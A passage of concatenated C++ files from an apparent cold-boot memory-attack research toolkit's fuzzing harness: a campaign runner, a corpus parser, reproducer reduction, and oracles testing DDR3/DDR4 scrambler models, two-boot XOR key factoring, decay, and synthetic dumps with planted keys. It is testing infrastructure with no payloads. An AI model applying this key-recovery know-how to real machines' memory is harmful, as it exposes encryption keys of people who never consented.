    out += "  \"total_cases\": " + std::to_string(total_cases) +
           ",\n";
    out += "  \"total_violations\": " +
           std::to_string(total_violations) + ",\n";
    out += std::string("  \"violations_truncated\": ") +
           (violations_truncated ? "true" : "false") + ",\n";

    out += "  \"oracles\": [\n";
    for (size_t i = 0; i < oracles.size(); ++i) {
        const auto &o = oracles[i];
        out += "    {\"name\": \"" + escape(o.name) + "\", ";
        out += "\"description\": \"" + escape(o.description) + "\", ";
        out += "\"cases\": " + std::to_string(o.cases) + ", ";
        out += "\"phase2_cases\": " + std::to_string(o.phase2_cases) +
               ", ";
        out += "\"violations\": " + std::to_string(o.violations) +
               ", ";
        out += "\"distinct_features\": " +
               std::to_string(o.distinct_features) + ", ";
        out += "\"interesting_seeds\": " +
               std::to_string(o.interesting_seeds) + "}";
        out += i + 1 < oracles.size() ? ",\n" : "\n";
    }
    out += "  ],\n";

    out += "  \"violations\": [\n";
    for (size_t i = 0; i < violations.size(); ++i) {
        const auto &v = violations[i];
        out += "    {\"oracle\": \"" + escape(v.oracle) + "\", ";
        out += "\"seed\": \"" + std::to_string(v.params.seed) +
               "\", ";
        out += "\"energy\": " + std::to_string(v.params.energy) +
               ", ";
        out += "\"scale\": " + std::to_string(v.params.scale) + ", ";
        out += "\"original_energy\": " +
               std::to_string(v.original.energy) + ", ";
        out += "\"original_scale\": " +
               std::to_string(v.original.scale) + ", ";
        out += "\"message\": \"" + escape(v.message) + "\", ";
        out += "\"reproducer\": \"" + escape(v.reproducer) + "\"}";
        out += i + 1 < violations.size() ? ",\n" : "\n";
    }
    out += "  ]\n";
    out += "}\n";
    return out;
}

CampaignReport
runCampaign(const CampaignConfig &config)
{
    cb_assert(config.seed_end >= config.seed_begin,
              "campaign seed range is inverted");

    // Resolve the oracle selection (catalogue order).
    std::vector<const Oracle *> selected;
    if (config.oracle_filter.empty()) {
        selected = allOracles();
    } else {
        for (const auto &name : config.oracle_filter) {
            const Oracle *o = findOracle(name);
            cb_assert(o != nullptr, "unknown oracle '%s'",
                      name.c_str());
            selected.push_back(o);
        }
    }

    // config.threads: 0 = the shared global pool, 1 = serial
    // in-line, N > 1 = a dedicated pool of N workers.
    std::unique_ptr<exec::ThreadPool> own_pool;
    if (config.threads > 1)
        own_pool =
            std::make_unique<exec::ThreadPool>(config.threads);
    const bool sequential = config.threads == 1;
    exec::ThreadPool *pool = own_pool.get();

    const bool smoke =
        config.profile == CampaignConfig::Profile::Smoke;
    const uint32_t phase1_energy =
        smoke ? config.energy : config.energy * 2;

    auto run_case = [&](uint32_t oi, uint64_t base, uint64_t round,
                        uint32_t energy) {
        CaseRecord rec;
        rec.oracle = oi;
        rec.base_seed = base;
        rec.params.seed =
            deriveCaseSeed(base, selected[oi]->name(), round);
        rec.params.energy = energy;
        rec.params.scale = config.scale;
        rec.result = selected[oi]->run(rec.params);
        return rec;
    };

    CampaignReport report;
    report.config = config;
    report.oracles.resize(selected.size());
    for (size_t oi = 0; oi < selected.size(); ++oi) {
        report.oracles[oi].name = selected[oi]->name();
        report.oracles[oi].description = selected[oi]->description();
    }

    std::vector<std::set<uint32_t>> seen(selected.size());
    std::vector<ViolationReport> raw_violations;

    auto tally = [&](const CaseRecord &rec, bool phase2) {
        auto &o = report.oracles[rec.oracle];
        ++o.cases;
        if (phase2)
            ++o.phase2_cases;
        ++report.total_cases;
        if (!rec.result.violation)
            return;
        ++o.violations;
        ++report.total_violations;
        if (raw_violations.size() <
            CampaignReport::maxStoredViolations) {
            ViolationReport v;
            v.oracle = selected[rec.oracle]->name();
            v.params = rec.params;
            v.original = rec.params;
            v.message = rec.result.message;
            raw_violations.push_back(std::move(v));
        } else {
            report.violations_truncated = true;
        }
    };

    /** Merge a record's features; true when any was new. */
    auto merge_features = [&](const CaseRecord &rec) {
        bool fresh = false;
        for (uint32_t f : rec.result.features)
            fresh |= seen[rec.oracle].insert(f).second;
        return fresh;
    };

    // Phase 1 - walk the base-seed range. The map step runs cases in
    // parallel; the reduce step consumes chunks in ascending seed
    // order, so coverage merging (and hence "interesting") is
    // independent of the worker count.
    constexpr uint64_t kSeedGrain = 8;
    std::vector<std::pair<uint32_t, uint64_t>> interesting;
    exec::parallelMapReduceChunks<ChunkResults>(
        config.seed_begin, config.seed_end, kSeedGrain,
        [&](const exec::ChunkRange &c) {
            ChunkResults out;
            for (uint64_t s = c.begin; s < c.end; ++s) {
                for (uint32_t oi = 0; oi < selected.size(); ++oi) {
                    if (smoke &&
                        s % selected[oi]->smokeStride() != 0)
                        continue;
                    out.cases.push_back(
                        run_case(oi, s, 0, phase1_energy));
                }
            }
            return out;
        },
        [&](ChunkResults &&r, const exec::ChunkRange &) {
            for (auto &rec : r.cases) {
                tally(rec, false);
                bool fresh = merge_features(rec);
                if (fresh) {
                    ++report.oracles[rec.oracle].interesting_seeds;
                    interesting.emplace_back(rec.oracle,
                                             rec.base_seed);
                }
            }
        },
        pool, sequential);

    // Phase 2 - re-mutate the coverage-advancing seeds harder.
    exec::parallelMapReduceChunks<ChunkResults>(
        0, interesting.size(), 4,
        [&](const exec::ChunkRange &c) {
            ChunkResults out;
            for (uint64_t i = c.begin; i < c.end; ++i) {
                auto [oi, s] = interesting[i];
                out.cases.push_back(
                    run_case(oi, s, 1, phase1_energy * 2));
            }
            return out;
        },
        [&](ChunkResults &&r, const exec::ChunkRange &) {
            for (auto &rec : r.cases) {
                tally(rec, true);
                merge_features(rec);
            }
        },
        pool, sequential);

    for (size_t oi = 0; oi < selected.size(); ++oi)
        report.oracles[oi].distinct_features = seen[oi].size();

    // Reduce the stored violations to minimal reproducers (serial:
    // failures are rare and reduction is itself deterministic).
    for (auto &v : raw_violations) {
        const Oracle *oracle = findOracle(v.oracle);
        if (config.reduce_violations) {
            v.params = reduceViolation(*oracle, v.original);
            if (v.params.energy != v.original.energy ||
                v.params.scale != v.original.scale) {
                auto rerun = oracle->run(v.params);
                if (rerun.violation && !rerun.message.empty())
                    v.message = rerun.message;
            }
        }
        v.reproducer = reproducerLine(v.oracle, v.params);
    }
    report.violations = std::move(raw_violations);

    // Mirror the tallies into the registry.
    auto &registry = obs::StatRegistry::global();
    registry
        .counter("fuzz.cases", "fuzz cases executed (both phases)")
        .add(report.total_cases);
    registry
        .counter("fuzz.violations",
                 "property violations found by fuzz campaigns")
        .add(report.total_violations);
    uint64_t phase2 = 0, features = 0;
    for (const auto &o : report.oracles) {
        phase2 += o.phase2_cases;
        features += o.distinct_features;
    }
    registry
        .counter("fuzz.phase2_cases",
                 "coverage-guided phase-2 fuzz cases")
        .add(phase2);
    registry
        .counter("fuzz.features",
                 "distinct coverage features discovered")
        .add(features);

    return report;
}

} // namespace coldboot::fuzz
