#include "fuzz/corpus.hh"

#include <algorithm>
#include <cstdio>
#include <filesystem>

#include "common/logging.hh"
#include "fuzz/reducer.hh"

namespace coldboot::fuzz
{

std::vector<CorpusEntry>
parseCorpus(const std::string &text, const std::string &file,
            std::vector<std::string> *errors)
{
    std::vector<CorpusEntry> out;
    unsigned lineno = 0;
    size_t pos = 0;
    while (pos <= text.size()) {
        size_t nl = text.find('\n', pos);
        std::string_view line(
            text.data() + pos,
            (nl == std::string::npos ? text.size() : nl) - pos);
        pos = nl == std::string::npos ? text.size() + 1 : nl + 1;
        ++lineno;

        std::string_view trimmed = line;
        while (!trimmed.empty() && (trimmed.front() == ' ' ||
                                    trimmed.front() == '\t'))
            trimmed.remove_prefix(1);
        if (trimmed.empty() || trimmed.front() == '#' ||
            trimmed.front() == '\r')
            continue;

        auto parsed = parseReproducer(trimmed);
        if (!parsed) {
            if (errors)
                errors->push_back(file + ":" +
                                  std::to_string(lineno) +
                                  ": unparseable corpus line");
            continue;
        }
        CorpusEntry entry;
        entry.oracle = parsed->first;
        entry.params = parsed->second;
        entry.file = file;
        entry.line = lineno;
        out.push_back(std::move(entry));
    }
    return out;
}

std::vector<CorpusEntry>
loadCorpusFile(const std::string &path,
               std::vector<std::string> *errors)
{
    FILE *f = std::fopen(path.c_str(), "rb");
    if (!f)
        cb_fatal("cannot open corpus file %s", path.c_str());
    std::string text;
    char buf[4096];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof(buf), f)) > 0)
        text.append(buf, n);
    bool failed = std::ferror(f) != 0;
    std::fclose(f);
    if (failed)
        cb_fatal("error reading corpus file %s", path.c_str());
    return parseCorpus(text, path, errors);
}

std::vector<CorpusEntry>
loadCorpusDir(const std::string &dir,
              std::vector<std::string> *errors)
{
    namespace fs = std::filesystem;
    std::error_code ec;
    std::vector<std::string> files;
    for (const auto &ent : fs::directory_iterator(dir, ec)) {
        if (ent.is_regular_file() &&
            ent.path().extension() == ".corpus")
            files.push_back(ent.path().string());
    }
    if (ec)
        cb_fatal("cannot read corpus directory %s: %s", dir.c_str(),
                 ec.message().c_str());
    std::sort(files.begin(), files.end());

    std::vector<CorpusEntry> out;
    for (const auto &path : files) {
        auto entries = loadCorpusFile(path, errors);
        out.insert(out.end(),
                   std::make_move_iterator(entries.begin()),
                   std::make_move_iterator(entries.end()));
    }
    return out;
}

std::string
formatCorpusEntry(const CorpusEntry &entry)
{
    return reproducerLine(entry.oracle, entry.params);
}

} // namespace coldboot::fuzz
