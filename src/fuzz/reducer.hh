/**
 * @file
 * Violation reduction and replay: shrink a failing fuzz case to the
 * smallest (energy, scale) that still violates its oracle, and turn
 * it into a one-line reproducer that pastes straight into a corpus
 * file or a gtest regression case.
 *
 * Reproducer grammar (one line, no spaces):
 *
 *     oracle=<name>:seed=<u64>:energy=<u32>:scale=<u32>
 *
 * The seed is the *derived case seed* (fuzz_rng.hh), so a reproducer
 * is self-contained: replaying it does not need the campaign's base
 * seed, profile or phase that produced it.
 */

#ifndef COLDBOOT_FUZZ_REDUCER_HH
#define COLDBOOT_FUZZ_REDUCER_HH

#include <optional>
#include <string>
#include <string_view>
#include <utility>

#include "fuzz/oracle.hh"

namespace coldboot::fuzz
{

/**
 * Shrink a failing case: tries lower scales and lower energies in a
 * fixed ladder (at most ~20 extra oracle runs) and returns the
 * smallest parameter set that still violates, preferring scale
 * reduction over energy reduction. Returns @p params unchanged when
 * nothing smaller fails.
 */
FuzzCaseParams reduceViolation(const Oracle &oracle,
                               const FuzzCaseParams &params);

/** Render the one-line reproducer for a case. */
std::string reproducerLine(std::string_view oracle,
                           const FuzzCaseParams &params);

/**
 * Parse a reproducer line; std::nullopt on any syntax error. The
 * oracle name is returned verbatim (it may be unknown to this
 * build - runReproducer() checks).
 */
std::optional<std::pair<std::string, FuzzCaseParams>>
parseReproducer(std::string_view line);

/**
 * Parse and replay a reproducer line against the registered oracle.
 * std::nullopt when the line does not parse or names no oracle.
 */
std::optional<OracleResult> runReproducer(std::string_view line);

/**
 * A ready-to-paste gtest regression case asserting the property
 * holds again once fixed (fails while the bug is live).
 */
std::string gtestSnippet(std::string_view oracle,
                         const FuzzCaseParams &params);

} // namespace coldboot::fuzz

#endif // COLDBOOT_FUZZ_REDUCER_HH
