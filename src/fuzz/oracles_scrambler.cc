/**
 * @file
 * Scrambler- and decay-layer oracles: the algebraic properties the
 * rest of the attack stack silently depends on.
 */

#include <algorithm>
#include <array>
#include <cstring>
#include <memory>
#include <set>

#include "common/bits.hh"
#include "dram/decay_model.hh"
#include "fuzz/dump_builder.hh"
#include "fuzz/fuzz_rng.hh"
#include "fuzz/mutator.hh"
#include "fuzz/oracles.hh"
#include "memctrl/scrambler.hh"

namespace coldboot::fuzz
{

namespace
{

using memctrl::Ddr3Scrambler;
using memctrl::Ddr4Scrambler;
using memctrl::lineBytes;
using memctrl::Scrambler;

/**
 * scramble-roundtrip: scramble ∘ descramble is the identity on both
 * scrambler generations, for any seed, channel and (line-aligned)
 * address; lineKey() is stable across calls; reseed() with the same
 * seed reproduces the key pool.
 */
class ScrambleRoundtripOracle final : public Oracle
{
  public:
    const char *name() const override { return "scramble-roundtrip"; }

    const char *
    description() const override
    {
        return "scramble then descramble is the identity on DDR3 and "
               "DDR4 for any seed/channel/address";
    }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);

        const bool ddr4 = rng.chance(0.5);
        const uint64_t seed = rng.next();
        const unsigned channel = static_cast<unsigned>(rng.below(4));
        std::unique_ptr<Scrambler> scr;
        if (ddr4)
            scr = std::make_unique<Ddr4Scrambler>(seed, channel);
        else
            scr = std::make_unique<Ddr3Scrambler>(seed, channel);
        res.feature(ddr4 ? 1 : 0);
        res.feature(10 + channel);

        const unsigned trials = 4 + params.energy;
        for (unsigned t = 0; t < trials; ++t) {
            // Addresses across the whole pool period and beyond
            // (the pool must wrap, not run off the end).
            uint64_t addr = (rng.below(1ull << 20)) * lineBytes;
            std::array<uint8_t, lineBytes> plain;
            rng.fill(plain);

            std::array<uint8_t, lineBytes> scrambled;
            scr->apply(addr, plain, scrambled);
            std::array<uint8_t, lineBytes> back;
            scr->apply(addr, scrambled, back);
            if (back != plain) {
                res.fail("roundtrip mismatch at addr " +
                         std::to_string(addr));
                return res;
            }

            // In-place application must agree with out-of-place.
            std::array<uint8_t, lineBytes> inplace = plain;
            scr->apply(addr, inplace, inplace);
            if (inplace != scrambled) {
                res.fail("in-place apply diverged at addr " +
                         std::to_string(addr));
                return res;
            }

            // lineKey is a pure function of (seed, channel, addr).
            std::array<uint8_t, lineBytes> k1, k2;
            scr->lineKey(addr, k1.data());
            scr->lineKey(addr, k2.data());
            if (k1 != k2) {
                res.fail("lineKey unstable at addr " +
                         std::to_string(addr));
                return res;
            }

            // The keystream must be the XOR of plain and scrambled.
            for (unsigned i = 0; i < lineBytes; ++i) {
                if ((plain[i] ^ scrambled[i]) != k1[i]) {
                    res.fail("apply() disagrees with lineKey() at "
                             "addr " +
                             std::to_string(addr));
                    return res;
                }
            }
            res.feature(20 + static_cast<uint32_t>(
                                 addr / lineBytes % 16));
        }

        // reseed() with the same seed must reproduce the pool;
        // reseed() with a different seed must change at least one key
        // (a seed-independent pool would be a broken scrambler model).
        constexpr unsigned probe_lines = 64;
        std::array<std::array<uint8_t, lineBytes>, probe_lines> orig;
        for (unsigned idx = 0; idx < probe_lines; ++idx)
            scr->lineKey(idx * lineBytes, orig[idx].data());
        scr->reseed(seed + 1);
        bool changed = false;
        std::array<uint8_t, lineBytes> after;
        for (unsigned idx = 0; idx < probe_lines && !changed; ++idx) {
            scr->lineKey(idx * lineBytes, after.data());
            changed = orig[idx] != after;
        }
        if (!changed)
            res.fail("reseed() left the whole probed pool unchanged");
        scr->reseed(seed);
        for (unsigned idx = 0; idx < probe_lines; ++idx) {
            scr->lineKey(idx * lineBytes, after.data());
            if (after != orig[idx]) {
                res.fail("reseed() with the original seed did not "
                         "reproduce the pool");
                break;
            }
        }
        return res;
    }
};

/**
 * reboot-xor-factoring: the generation gap the paper's Figure 3
 * documents. XOR-ing the key streams of two DDR3 boots cancels the
 * per-address patterns and leaves ONE universal 64-byte key across
 * all 16 indices; on DDR4 the per-(seed, index) LFSR pools leave many
 * distinct XOR residues, so no universal key survives.
 */
class RebootXorOracle final : public Oracle
{
  public:
    const char *name() const override { return "reboot-xor-factoring"; }

    const char *
    description() const override
    {
        return "two-boot XOR collapses to one universal key on DDR3 "
               "and does not on DDR4";
    }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);
        const unsigned channel = static_cast<unsigned>(rng.below(4));
        uint64_t seed_a = rng.next();
        uint64_t seed_b = rng.next();
        if (seed_a == seed_b)
            ++seed_b;

        // DDR3: every index must yield the same XOR residue.
        {
            Ddr3Scrambler boot_a(seed_a, channel);
            Ddr3Scrambler boot_b(seed_b, channel);
            std::array<uint8_t, lineBytes> universal{};
            for (unsigned idx = 0; idx < 16; ++idx) {
                // Index bits are addr[9:6], so addr = idx << 6 walks
                // all 16 keys; add a pool-period stride to confirm
                // periodicity while we are here.
                uint64_t addr =
                    (idx + 16 * rng.below(64)) * lineBytes;
                std::array<uint8_t, lineBytes> ka, kb, x;
                boot_a.lineKey(addr, ka.data());
                boot_b.lineKey(addr, kb.data());
                for (unsigned i = 0; i < lineBytes; ++i)
                    x[i] = ka[i] ^ kb[i];
                if (idx == 0) {
                    universal = x;
                } else if (x != universal) {
                    res.fail(
                        "ddr3 two-boot XOR is not universal at index " +
                        std::to_string(idx));
                    return res;
                }
            }
            res.feature(0);
        }

        // DDR4: the XOR residues across indices must NOT collapse.
        {
            Ddr4Scrambler boot_a(seed_a, channel);
            Ddr4Scrambler boot_b(seed_b, channel);
            std::set<std::array<uint8_t, lineBytes>> residues;
            const unsigned probes = 32 + params.energy;
            for (unsigned t = 0; t < probes; ++t) {
                unsigned idx =
                    static_cast<unsigned>(rng.below(4096));
                std::array<uint8_t, lineBytes> ka, kb, x;
                boot_a.poolKey(idx, ka.data());
                boot_b.poolKey(idx, kb.data());
                for (unsigned i = 0; i < lineBytes; ++i)
                    x[i] = ka[i] ^ kb[i];
                residues.insert(x);
            }
            if (residues.size() <= 1) {
                res.fail("ddr4 two-boot XOR collapsed to a single "
                         "universal key - DDR3-style factoring "
                         "should not work");
                return res;
            }
            res.feature(1);
            res.feature(100 + static_cast<uint32_t>(
                                  std::min<size_t>(residues.size(),
                                                   40)));
        }
        return res;
    }
};

/**
 * decay-monotone: decay only ever moves a bit toward its ground
 * state; ground-state memory is a fixed point; the retention curve is
 * monotone in time and bounded to [0, 1].
 */
class DecayMonotoneOracle final : public Oracle
{
  public:
    const char *name() const override { return "decay-monotone"; }

    const char *
    description() const override
    {
        return "decay moves bits toward ground state only; ground "
               "state is a fixed point; retention curve is monotone";
    }

    unsigned smokeStride() const override { return 2; }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);

        const size_t bytes =
            static_cast<size_t>(8 * 1024) << params.scale;
        std::vector<uint8_t> data(bytes);
        rng.fill(data);
        mutateBytes(data, rng, params.energy);
        std::vector<uint8_t> before = data;

        dram::DecayParams dp;
        dp.quality = 0.5 + rng.uniform();
        dram::DecayModel model(dp, rng.next());

        const double celsius = -40.0 + 70.0 * rng.uniform();
        const double seconds = 0.1 + 20.0 * rng.uniform();

        // Retention curve shape.
        double f1 = model.decayedFraction(seconds, celsius);
        double f2 = model.decayedFraction(seconds * 2, celsius);
        if (f1 < 0.0 || f1 > 1.0 || f2 < 0.0 || f2 > 1.0) {
            res.fail("decayedFraction out of [0, 1]");
            return res;
        }
        if (f2 < f1) {
            res.fail("decayedFraction not monotone in time");
            return res;
        }
        if (model.decayedFraction(seconds, celsius - 20.0) > f1) {
            res.fail("cooling increased the decayed fraction");
            return res;
        }
        res.feature(static_cast<uint32_t>(f1 * 8));

        // Direction: a visibly flipped bit now equals ground state.
        uint64_t flips = model.applyDecay(data, seconds, celsius);
        uint64_t seen = 0;
        for (uint64_t bit = 0; bit < bytes * 8; ++bit) {
            bool was = (before[bit / 8] >> (bit % 8)) & 1;
            bool now = (data[bit / 8] >> (bit % 8)) & 1;
            if (was == now)
                continue;
            ++seen;
            if (now != model.groundStateBit(bit)) {
                res.fail("bit " + std::to_string(bit) +
                         " decayed away from its ground state");
                return res;
            }
        }
        if (seen != flips) {
            res.fail("applyDecay reported " + std::to_string(flips) +
                     " visible flips but " + std::to_string(seen) +
                     " bits changed");
            return res;
        }
        res.feature(16 + (flips == 0 ? 0 : 1));

        // Fixed point: fully decayed memory cannot decay further.
        model.decayToGround(data);
        std::vector<uint8_t> ground = data;
        uint64_t again = model.applyDecay(data, seconds * 4, celsius);
        if (again != 0 || data != ground)
            res.fail("ground-state memory visibly decayed again");
        return res;
    }
};

const ScrambleRoundtripOracle roundtrip_oracle;
const RebootXorOracle reboot_oracle;
const DecayMonotoneOracle decay_oracle;

} // anonymous namespace

void
registerScramblerOracles(std::vector<const Oracle *> &out)
{
    out.push_back(&roundtrip_oracle);
    out.push_back(&reboot_oracle);
    out.push_back(&decay_oracle);
}

} // namespace coldboot::fuzz
