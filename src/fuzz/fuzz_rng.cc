#include "fuzz/fuzz_rng.hh"

namespace coldboot::fuzz
{

uint64_t
hashName(std::string_view name)
{
    // FNV-1a, 64-bit.
    uint64_t h = 0xcbf29ce484222325ULL;
    for (char c : name) {
        h ^= static_cast<uint8_t>(c);
        h *= 0x100000001b3ULL;
    }
    return h;
}

uint64_t
deriveCaseSeed(uint64_t base_seed, std::string_view oracle,
               uint64_t round)
{
    // SplitMix64 walks are statistically independent for distinct
    // starting points; mixing the oracle-name hash and the round in
    // as offsets keeps every (seed, oracle, round) stream unrelated.
    SplitMix64 mixer(base_seed ^ hashName(oracle) ^
                     (round * 0x9e3779b97f4a7c15ULL));
    mixer.next();
    return mixer.next();
}

} // namespace coldboot::fuzz
