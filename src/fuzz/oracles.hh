/**
 * @file
 * Internal registration hooks of the oracle catalogue. Each
 * oracles_*.cc translation unit appends its oracles to the registry
 * vector in the fixed catalogue order; oracle.cc calls these once,
 * in order, to build the process-lifetime registry.
 */

#ifndef COLDBOOT_FUZZ_ORACLES_HH
#define COLDBOOT_FUZZ_ORACLES_HH

#include <vector>

#include "fuzz/oracle.hh"

namespace coldboot::fuzz
{

/** scramble-roundtrip, reboot-xor-factoring, decay-monotone. */
void registerScramblerOracles(std::vector<const Oracle *> &out);

/** scrambler-litmus-diff, aes-litmus-brute, aes-schedule-inverse. */
void registerLitmusOracles(std::vector<const Oracle *> &out);

/** miner-planted-keys, search-planted-schedule,
 *  parallel-fingerprint. */
void registerAttackOracles(std::vector<const Oracle *> &out);

/** dump-backend-equality. */
void registerIoOracles(std::vector<const Oracle *> &out);

/** simd-vs-scalar. */
void registerSimdOracles(std::vector<const Oracle *> &out);

} // namespace coldboot::fuzz

#endif // COLDBOOT_FUZZ_ORACLES_HH
