/**
 * @file
 * Checked-in fuzz corpus: files of one-line reproducers (reducer.hh
 * grammar) under tests/fuzz_corpus/, replayed by the regression
 * tests and the `coldboot-fuzz --corpus` mode so every violation
 * ever found - and the seeds that exercise interesting behaviour -
 * keep running on every commit.
 *
 * File format: one reproducer per line; blank lines and lines
 * starting with `#` are comments.
 */

#ifndef COLDBOOT_FUZZ_CORPUS_HH
#define COLDBOOT_FUZZ_CORPUS_HH

#include <string>
#include <vector>

#include "fuzz/oracle.hh"

namespace coldboot::fuzz
{

/** One parsed corpus line. */
struct CorpusEntry
{
    std::string oracle;
    FuzzCaseParams params;
    /** Source file and 1-based line (for error reporting). */
    std::string file;
    unsigned line = 0;
};

/**
 * Parse corpus text. Malformed non-comment lines are collected into
 * @p errors as "<file>:<line>: <why>" strings (nullptr = ignore).
 */
std::vector<CorpusEntry> parseCorpus(
    const std::string &text, const std::string &file,
    std::vector<std::string> *errors = nullptr);

/** Load and parse one corpus file; cb_fatal on I/O error. */
std::vector<CorpusEntry> loadCorpusFile(
    const std::string &path, std::vector<std::string> *errors = nullptr);

/**
 * Load every `*.corpus` file directly under @p dir (sorted by file
 * name, so the replay order is stable across filesystems); cb_fatal
 * when the directory cannot be read.
 */
std::vector<CorpusEntry> loadCorpusDir(
    const std::string &dir, std::vector<std::string> *errors = nullptr);

/** Render an entry back to its one-line form. */
std::string formatCorpusEntry(const CorpusEntry &entry);

} // namespace coldboot::fuzz

#endif // COLDBOOT_FUZZ_CORPUS_HH
