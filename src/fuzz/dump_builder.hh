/**
 * @file
 * Ground-truth dump synthesis for the attack-layer oracles: builds a
 * scrambled memory image with *known* planted artifacts (scrambler
 * keys from a real Ddr4Scrambler pool, an expanded AES key schedule
 * scrambled under a known key) plus decay, so oracles can check the
 * miner and search pipelines against an exact expectation instead of
 * a statistical one.
 */

#ifndef COLDBOOT_FUZZ_DUMP_BUILDER_HH
#define COLDBOOT_FUZZ_DUMP_BUILDER_HH

#include <array>
#include <cstdint>
#include <optional>
#include <vector>

#include "crypto/aes.hh"
#include "fuzz/fuzz_rng.hh"
#include "fuzz/mutator.hh"

namespace coldboot::fuzz
{

/** One planted scrambler key and where its copies landed. */
// coldboot-lint: allow(wipe-coverage) -- fuzz fixture ground truth, keys are generated test data
struct PlantedKey
{
    /** Ddr4Scrambler pool index the key came from. */
    unsigned pool_index = 0;
    /** The pristine 64-byte key (pre-decay ground truth). */
    std::array<uint8_t, 64> key{};
    /** Dump byte offsets of the planted copies (line aligned). */
    std::vector<uint64_t> offsets;
};

/** A planted expanded AES key schedule. */
// coldboot-lint: allow(wipe-coverage) -- fuzz fixture ground truth, keys are generated test data
struct PlantedSchedule
{
    /** Raw master key (16/24/32 bytes). */
    std::vector<uint8_t> master;
    crypto::AesKeySize key_size = crypto::AesKeySize::Aes256;
    /** Dump byte offset of schedule word 0 (line aligned). */
    uint64_t offset = 0;
    /** The scrambler key the schedule's lines were XOR-ed with. */
    std::array<uint8_t, 64> scramble_key{};
};

/** What to synthesize. */
struct FuzzDumpSpec
{
    /** Dump size in bytes (must be a nonzero multiple of 64). */
    uint64_t bytes = 64 * 1024;
    /** Distinct scrambler keys to plant. */
    unsigned planted_keys = 4;
    /** Copies of each planted key. */
    unsigned copies_per_key = 3;
    /** Fraction of background lines left zero before scrambling
     *  (zero lines through the scrambler are how real dumps leak
     *  keys; here they add *unplanted* true keys to the mix). */
    double zero_line_fraction = 0.05;
    /** Plant one expanded AES schedule? */
    bool plant_schedule = false;
    crypto::AesKeySize schedule_size = crypto::AesKeySize::Aes256;
    /** Visible bit-flip fraction of the decay pass (0 = no decay). */
    double decay_fraction = 0.0;
};

/** The synthesized dump plus its ground truth. */
// coldboot-lint: allow(wipe-coverage) -- fuzz fixture ground truth, keys are generated test data
struct FuzzDump
{
    std::vector<uint8_t> bytes;
    /** Seed the key-source Ddr4Scrambler was built with. */
    uint64_t scrambler_seed = 0;
    std::vector<PlantedKey> keys;
    std::optional<PlantedSchedule> schedule;
    /** Regions holding planted artifacts (for steered mutation). */
    std::vector<ProtectedRegion> planted_regions;
    /** Bits visibly flipped by the decay pass. */
    uint64_t bits_decayed = 0;
};

/**
 * Build a scrambled dump per @p spec, drawing every placement from
 * @p rng. Planted key copies are raw key bytes (what a zero-filled
 * line stores in DRAM); the schedule, when requested, is XOR-ed with
 * one known pool key and that key is also planted so the mining →
 * search hand-off can succeed end to end. Decay runs last, over the
 * whole image (planted artifacts decay too - that is the point).
 */
FuzzDump buildFuzzDump(CaseRng &rng, const FuzzDumpSpec &spec);

} // namespace coldboot::fuzz

#endif // COLDBOOT_FUZZ_DUMP_BUILDER_HH
