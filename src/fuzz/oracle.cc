#include "fuzz/oracle.hh"

#include "fuzz/oracles.hh"

namespace coldboot::fuzz
{

const std::vector<const Oracle *> &
allOracles()
{
    // Catalogue order is the report order; keep it stable so campaign
    // reports diff cleanly across code changes.
    static std::vector<const Oracle *> registry = [] {
        std::vector<const Oracle *> out;
        registerScramblerOracles(out);
        registerLitmusOracles(out);
        registerAttackOracles(out);
        registerIoOracles(out);
        registerSimdOracles(out);
        return out;
    }();
    return registry;
}

const Oracle *
findOracle(std::string_view name)
{
    for (const Oracle *o : allOracles())
        if (name == o->name())
            return o;
    return nullptr;
}

} // namespace coldboot::fuzz
