/**
 * @file
 * SIMD-layer oracle: every vector kernel backend must be
 * bit-identical to the scalar reference on hostile lengths and
 * alignments. The oracle addresses each backend's table directly via
 * simd::kernels() - the process-global active backend is never
 * touched, so concurrently running fuzz cases stay independent.
 */

#include <algorithm>
#include <cstring>
#include <memory>
#include <string>
#include <vector>

#include "fuzz/fuzz_rng.hh"
#include "fuzz/mutator.hh"
#include "fuzz/oracles.hh"
#include "simd/simd.hh"

namespace coldboot::fuzz
{

namespace
{

/**
 * simd-vs-scalar: differential check of the whole kernel table. Each
 * trial draws a hostile length (tail boundaries, vector-width
 * multiples plus or minus one, or random up to the scale class) and
 * a hostile alignment (both source and destination offsets 0-63 on
 * exact-size heap buffers, so sanitized builds catch past-the-end
 * reads), then requires every usable backend to reproduce the scalar
 * result bit for bit on every kernel.
 */
class SimdVsScalarOracle final : public Oracle
{
  public:
    const char *name() const override { return "simd-vs-scalar"; }

    const char *
    description() const override
    {
        return "vector kernel backends bit-identical to the scalar "
               "reference on hostile lengths and alignments";
    }

    OracleResult
    run(const FuzzCaseParams &params) const override
    {
        OracleResult res;
        CaseRng rng(params.seed);
        const auto &scalar = simd::kernels(simd::Backend::Scalar);

        std::vector<simd::Backend> backends;
        for (unsigned i = 1; i < simd::kBackendCount; ++i) {
            auto b = static_cast<simd::Backend>(i);
            if (simd::backendUsable(b)) {
                backends.push_back(b);
                res.feature(i); // which vector backends this host has
            }
        }

        const unsigned trials = 8 + params.energy;
        for (unsigned t = 0; t < trials; ++t) {
            // Hostile length: cluster around the tail boundaries the
            // vector kernels switch strategy at.
            size_t n;
            unsigned cls = static_cast<unsigned>(rng.below(4));
            if (cls == 0)
                n = rng.below(4); // empty and near-empty
            else if (cls == 1)
                n = rng.pick({8u, 16u, 32u, 64u, 128u, 192u, 256u}) +
                    static_cast<size_t>(rng.range(0, 2)) - 1;
            else if (cls == 2)
                n = rng.below(200);
            else
                n = rng.below(
                    (1024u << std::min(params.scale, 4u)) + 1);
            size_t off_a = rng.below(64);
            size_t off_b = rng.below(64);

            // Exact allocations: the logical ranges end flush with
            // the heap blocks.
            auto mem_a = std::make_unique<uint8_t[]>(off_a + n);
            auto mem_b = std::make_unique<uint8_t[]>(off_b + n);
            auto mem_m = std::make_unique<uint8_t[]>(n);
            uint8_t *a = mem_a.get() + off_a;
            uint8_t *b = mem_b.get() + off_b;
            uint8_t *mask = mem_m.get();
            rng.fill({mem_a.get(), off_a + n});
            rng.fill({mem_b.get(), off_b + n});
            rng.fill({mask, n});
            if (n > 0 && rng.chance(0.5))
                mutateBytes({a, n}, rng, 1 + params.energy);

            size_t ref_dist = scalar.hamming_distance(a, b, n);
